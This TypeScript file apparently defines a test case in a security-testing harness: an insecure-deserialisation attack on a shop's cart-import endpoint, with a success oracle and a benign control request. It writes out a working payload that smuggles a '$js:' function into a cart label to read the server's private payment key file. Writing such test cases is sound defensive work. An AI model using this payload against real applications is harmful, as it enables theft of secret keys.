import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'

/** Brings a function to life in a saved cart. */
export const deserialiseFunction: Attack = defineAttack({
  id: 'deserialise-function',
  class: 'deserialisation',
  title: 'Brings a function to life in a saved cart',
  cwe: 502,
  capec: 586,
  technique: 'T1059.007',
  preconditions: ['the folder of the application is known'],

  steps: ({ visitor, witness }) => {
    const path = `${witness.folder}/private/payment.key`
    const label = `$js:() => process.getBuiltinModule('fs').readFileSync('${path}', 'utf8')`
    const cart = Buffer.from(JSON.stringify({ lines: [], label })).toString('base64')
    return visitor.form('/cart/import', { cart })
  },
  oracle: (answer, { witness }) => answer.text.includes(witness.loot.fileKey),
  twin: ({ visitor }) => {
    const saved = { lines: [{ product: 1, quantity: 2 }], label: 'for the summer' }
    return visitor.form('/cart/import', { cart: Buffer.from(JSON.stringify(saved)).toString('base64') })
  },
})
